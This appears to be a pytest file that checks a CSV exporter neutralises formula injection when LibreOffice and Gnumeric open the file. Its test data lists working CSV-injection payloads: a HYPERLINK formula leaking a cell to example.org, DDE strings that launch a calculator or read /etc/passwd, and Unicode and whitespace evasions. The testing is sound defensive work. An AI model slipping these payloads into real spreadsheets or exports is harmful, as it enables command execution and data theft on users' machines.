"""Real spreadsheet programs open our CSV: nothing is run, and the text is as it was."""

from __future__ import annotations

import shutil
import subprocess
from typing import TYPE_CHECKING

import pytest
from openpyxl import load_workbook

from icccat.formats import Selection
from icccat.formats.csv import MARK, guard, write
from icccat.records.columns import columns_named
from icccat.records.record import Record

if TYPE_CHECKING:
    from pathlib import Path

TITLES = [
    "=1+1",
    "+1+1",
    "-1-1",
    "@SUM(1)",
    '=HYPERLINK("http://example.org/?leak="&A1,"click")',
    "=cmd|'/c calc'!A1",
    '=DDE("soffice";"/etc/passwd";"A1")',
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@cmd|'/c calc'!A1",
    '=WEBSERVICE("http://example.org")',
    "=1+1,=1+1",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001 (full-width signs)
    "＋1+1",  # noqa: RUF001
    "－1-1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    "a,=1+1",
    'a"\n=1+1',
    " =1+1",
    ";=1+1",
    "Réfugiés à l’École, Œuvre",
    "Αθήνα",
    "Українська мережа",
    "Vielfalt 🌍 vereint",
    'Stop the "rumours"',
    "One line\nand another",
]
NUMBERS = {"+1": 1, "-1": -1, "-1.5": -1.5}


SEPARATORS = {"excel": ",", "excel-fr": ";"}


@pytest.fixture(params=SEPARATORS)
def program(request: pytest.FixtureRequest) -> str:
    """The program that the file is made for."""
    return str(request.param)


@pytest.fixture
def sheet(tmp_path: Path, program: str) -> Path:
    """A file of CSV with the hostile titles, then the numbers, with the ids as a second column."""
    records = [Record("video", "any", {"title": {"en": title}}) for title in (*TITLES, *NUMBERS)]
    columns = columns_named(["title", "id"])
    selection = Selection(records=records, columns=columns, total=len(records), program=program)
    path = tmp_path / "titles.csv"
    path.write_bytes(write(selection, to_file=True))
    return path


def cells(path: Path) -> list[tuple[str, object]]:
    """The type and the value of each first cell of a workbook: s text, n a number, f a formula.

    In the second cell of every row there is the id, and nothing in a third.
    """
    rows = list(load_workbook(path).worksheets[0].iter_rows())
    ids = [[cell.value for cell in rest] for _first, *rest in rows]
    assert ids == [["id"], *[["any"]] * (len(rows) - 1)]
    return [(first.data_type, first.value) for first, *_rest in rows]


def by_libreoffice(sheet: Path, separator: str) -> Path:
    """The workbook that LibreOffice makes of a sheet, read as UTF-8 with this separator."""
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(sheet.parent / 'profile').as_uri()}",
            *("--headless", f"--infilter=CSV:{ord(separator)},34,76", "--convert-to", "xlsx"),
            *("--outdir", str(sheet.parent), str(sheet)),
        ],
        check=True,
        capture_output=True,
    )
    return sheet.with_suffix(".xlsx")


def by_gnumeric(sheet: Path) -> Path:
    """The workbook that Gnumeric makes of a sheet with commas, the only ones that it knows here."""
    made = sheet.with_suffix(".xlsx")
    subprocess.run(
        ["ssconvert", "--import-type=Gnumeric_stf:stf_csvtab", str(sheet), str(made)],
        check=True,
        capture_output=True,
    )
    return made


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice(sheet: Path, program: str) -> None:
    """LibreOffice shows every title as guarded, and runs none."""
    titles = [("s", guard(title)) for title in TITLES]
    found = cells(by_libreoffice(sheet, SEPARATORS[program]))
    assert found == [("s", "title"), *titles, *numbers()]


@pytest.mark.skipif(shutil.which("ssconvert") is None, reason="Gnumeric is not installed")
@pytest.mark.filterwarnings("ignore:Workbook contains no default style:UserWarning")
@pytest.mark.parametrize("program", ["excel"])
def test_gnumeric(sheet: Path) -> None:
    """Gnumeric shows every title without the mark, which it knows, and runs none."""
    titles = [("s", guard(title).removeprefix(MARK)) for title in TITLES]
    assert cells(by_gnumeric(sheet)) == [("s", "title"), *titles, *numbers()]


def numbers() -> list[tuple[str, float]]:
    """The cells of the numbers."""
    return [("n", number) for number in NUMBERS.values()]
